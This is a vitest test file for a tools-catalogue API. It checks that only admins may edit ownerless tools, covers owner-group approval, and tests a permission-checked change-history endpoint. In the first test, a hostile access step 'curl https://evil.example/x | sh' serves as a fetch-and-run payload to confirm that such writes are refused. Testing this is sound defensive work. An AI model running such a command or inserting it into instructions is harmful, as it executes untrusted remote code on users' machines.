import { beforeEach, describe, expect, it } from 'vitest';
import { seedDatabase } from '../../db/seed';
import { createTestToken, insertTestTool, toolInput } from '../factories';
import { createTestHub, type TestHub } from '../helpers/app';

let hub: TestHub;
let cmsWriter: Awaited<ReturnType<typeof createTestToken>>;
let atlasWriter: Awaited<ReturnType<typeof createTestToken>>;
let admin: Awaited<ReturnType<typeof createTestToken>>;

const as = (token: { authorization: string }) => ({ authorization: token.authorization });

const suggestion = (name: string) => ({
  name,
  summary: 'A tool a visitor suggested.',
  categories: ['library'],
  accessSteps: [{ text: 'pip install it.' }],
  suggestedBy: 'Ada Lovelace <ada@example.org>',
});

async function history(slug: string, token: { authorization: string }) {
  return hub.call('GET', `/api/tools/${slug}/history`, { headers: as(token) });
}

beforeEach(async () => {
  hub = await createTestHub();
  await seedDatabase(hub.db);
  cmsWriter = await createTestToken(hub.db, ['write'], 'cms');
  atlasWriter = await createTestToken(hub.db, ['write'], 'atlas');
  admin = await createTestToken(hub.db, ['admin'], 'it');
});

describe('ownerless tools', () => {
  it('PATCH on a seeded tool by any group writer is 403 and changes nothing; admins may change it', async () => {
    const before = await hub.call('GET', '/api/tools/swan');
    expect(before.json.ownerGroup).toBeNull();
    const hostile = { accessSteps: [{ text: 'Run this first.', command: 'curl https://evil.example/x | sh' }] };

    for (const writer of [cmsWriter, atlasWriter]) {
      const res = await hub.call('PATCH', '/api/tools/swan', { body: hostile, headers: as(writer) });
      expect(res.status).toBe(403);
      expect(res.json.error.message).toContain('only admins');
    }
    expect((await hub.call('GET', '/api/tools/swan')).json.accessSteps).toEqual(before.json.accessSteps);

    const byAdmin = await hub.call('PATCH', '/api/tools/swan', {
      body: { summary: 'Jupyter notebooks in the browser (SWAN).' },
      headers: as(admin),
    });
    expect(byAdmin.status).toBe(200);
    expect(byAdmin.json.summary).toBe('Jupyter notebooks in the browser (SWAN).');
  });

  it('an owned tool stays editable by its own group only', async () => {
    await insertTestTool(hub.db, { slug: 'cms-tool', ownerGroupId: 'cms' });
    expect(
      (await hub.call('PATCH', '/api/tools/cms-tool', { body: { summary: 'Ours.' }, headers: as(cmsWriter) })).status,
    ).toBe(200);
    const other = await hub.call('PATCH', '/api/tools/cms-tool', {
      body: { summary: 'Mine.' },
      headers: as(atlasWriter),
    });
    expect(other.status).toBe(403);
    expect(other.json.error.details).toMatchObject({ owner: 'cms', yourGroup: 'atlas' });
  });

  it('only admins change the owner group, and only to a group that exists', async () => {
    await insertTestTool(hub.db, { slug: 'cms-tool', ownerGroupId: 'cms' });
    const byOwner = await hub.call('PATCH', '/api/tools/cms-tool', {
      body: { ownerGroup: 'atlas' },
      headers: as(cmsWriter),
    });
    expect(byOwner.status).toBe(403);
    // Sending the current owner is not a change.
    expect(
      (await hub.call('PATCH', '/api/tools/cms-tool', { body: { ownerGroup: 'cms' }, headers: as(cmsWriter) })).status,
    ).toBe(200);

    const unknown = await hub.call('PATCH', '/api/tools/swan', { body: { ownerGroup: 'nobody' }, headers: as(admin) });
    expect(unknown.status).toBe(400);
    expect(unknown.json.error.details.issues[0]).toMatchObject({ path: 'ownerGroup', code: 'unknown_group' });

    const handed = await hub.call('PATCH', '/api/tools/swan', { body: { ownerGroup: 'it' }, headers: as(admin) });
    expect(handed.status).toBe(200);
    expect(handed.json.ownerGroup).toBe('it');
    const itWriter = await createTestToken(hub.db, ['write'], 'it');
    expect(
      (await hub.call('PATCH', '/api/tools/swan', { body: { summary: 'By IT.' }, headers: as(itWriter) })).status,
    ).toBe(200);
  });
});

describe('POST /api/tools/:slug/approve', () => {
  it('publishes under the owner group it names, whose writers may then change the tool', async () => {
    await hub.call('POST', '/api/tools/suggestions', { body: suggestion('Owned Tool') });
    const approved = await hub.call('POST', '/api/tools/owned-tool/approve', {
      body: { ownerGroup: 'cms' },
      headers: as(admin),
    });
    expect(approved.status).toBe(200);
    expect(approved.json).toMatchObject({ status: 'published', ownerGroup: 'cms' });
    expect(
      (await hub.call('PATCH', '/api/tools/owned-tool', { body: { summary: 'By CMS.' }, headers: as(cmsWriter) }))
        .status,
    ).toBe(200);
    expect(
      (await hub.call('PATCH', '/api/tools/owned-tool', { body: { summary: 'By ATLAS.' }, headers: as(atlasWriter) }))
        .status,
    ).toBe(403);
  });

  it('without an owner group leaves the tool to admins alone', async () => {
    await hub.call('POST', '/api/tools/suggestions', { body: suggestion('Curated Tool') });
    const approved = await hub.call('POST', '/api/tools/curated-tool/approve', { headers: as(admin) });
    expect(approved.status).toBe(200);
    expect(approved.json.ownerGroup).toBeNull();
    expect(
      (await hub.call('PATCH', '/api/tools/curated-tool', { body: { summary: 'Hijacked.' }, headers: as(cmsWriter) }))
        .status,
    ).toBe(403);
  });

  it('refuses an unknown owner group with 400 and leaves the suggestion pending', async () => {
    await hub.call('POST', '/api/tools/suggestions', { body: suggestion('Pending Tool') });
    const res = await hub.call('POST', '/api/tools/pending-tool/approve', {
      body: { ownerGroup: 'nobody' },
      headers: as(admin),
    });
    expect(res.status).toBe(400);
    expect(res.json.error.details.issues[0]).toMatchObject({ path: 'ownerGroup' });
    const still = await hub.call('GET', '/api/tools/pending-tool', { headers: as(admin) });
    expect(still.json.status).toBe('pending');
  });
});

describe('GET /api/tools/:slug/history', () => {
  it('records who made each change: the suggestion, the approval and each PATCH, with fields before and after', async () => {
    await hub.call('POST', '/api/tools/suggestions', { body: suggestion('Tracked Tool') });
    await hub.call('POST', '/api/tools/tracked-tool/approve', { body: { ownerGroup: 'cms' }, headers: as(admin) });
    await hub.call('PATCH', '/api/tools/tracked-tool', {
      body: { summary: 'Reviewed by CMS.', tags: ['gpu'], name: 'Tracked Tool' },
      headers: as(cmsWriter),
    });
    // A refused change leaves no trace.
    await hub.call('PATCH', '/api/tools/tracked-tool', { body: { summary: 'No.' }, headers: as(atlasWriter) });

    const res = await history('tracked-tool', cmsWriter);
    expect(res.status).toBe(200);
    expect(res.json.nextCursor).toBeNull();
    const [changed, approved, suggested] = res.json.items;
    expect(res.json.items).toHaveLength(3);
    expect(changed).toMatchObject({
      action: 'changed',
      tokenId: cmsWriter.token.id,
      group: 'cms',
      // The name was sent unchanged, so it is not listed.
      changes: {
        summary: { from: 'A tool a visitor suggested.', to: 'Reviewed by CMS.' },
        tags: { from: [], to: ['gpu'] },
      },
    });
    expect(Object.keys(changed.changes).sort()).toEqual(['summary', 'tags']);
    expect(approved).toMatchObject({
      action: 'approved',
      tokenId: admin.token.id,
      group: 'it',
      changes: { status: { from: 'pending', to: 'published' }, ownerGroup: { from: null, to: 'cms' } },
    });
    expect(suggested).toMatchObject({ action: 'suggested', tokenId: null, group: null });
    expect(suggested.changes.name).toEqual({ from: null, to: 'Tracked Tool' });
    expect(Date.parse(changed.changedAt)).toBeGreaterThanOrEqual(Date.parse(suggested.changedAt));
  });

  it('records a created tool and pages through the changes with a cursor', async () => {
    await hub.call('POST', '/api/tools', { body: toolInput({ slug: 'paged-tool' }), headers: as(cmsWriter) });
    for (const summary of ['One.', 'Two.']) {
      await hub.call('PATCH', '/api/tools/paged-tool', { body: { summary }, headers: as(cmsWriter) });
    }
    const first = await hub.call('GET', '/api/tools/paged-tool/history?limit=2', { headers: as(admin) });
    expect(first.json.items.map((c: { action: string }) => c.action)).toEqual(['changed', 'changed']);
    expect(first.json.items[0].changes.summary).toEqual({ from: 'One.', to: 'Two.' });
    const rest = await hub.call('GET', `/api/tools/paged-tool/history?limit=2&cursor=${first.json.nextCursor}`, {
      headers: as(admin),
    });
    expect(rest.json.items).toHaveLength(1);
    expect(rest.json.items[0]).toMatchObject({ action: 'created', tokenId: cmsWriter.token.id, group: 'cms' });
    expect(rest.json.nextCursor).toBeNull();
  });

  it('is shown to admins and the owner group only: 403 for other groups, 404 for what the caller cannot see', async () => {
    await insertTestTool(hub.db, { slug: 'cms-tool', ownerGroupId: 'cms' });
    expect((await history('cms-tool', cmsWriter)).status).toBe(200);
    expect((await history('cms-tool', admin)).status).toBe(200);
    expect((await history('cms-tool', atlasWriter)).status).toBe(403);
    // Ownerless tools: admins only.
    expect((await history('swan', cmsWriter)).status).toBe(403);
    const swan = await history('swan', admin);
    expect(swan.status).toBe(200);
    expect(swan.json.items).toEqual([]);

    expect((await hub.call('GET', '/api/tools/cms-tool/history')).status).toBe(401);
    expect((await history('ghost', admin)).status).toBe(404);
    await hub.call('POST', '/api/tools/suggestions', { body: suggestion('Secret Pending') });
    expect((await history('secret-pending', cmsWriter)).status).toBe(404);
    expect((await history('secret-pending', admin)).status).toBe(200);
    expect((await hub.call('GET', '/api/tools/cms-tool/history?cursor=nonsense', { headers: as(admin) })).status).toBe(
      400,
    );
  });
});
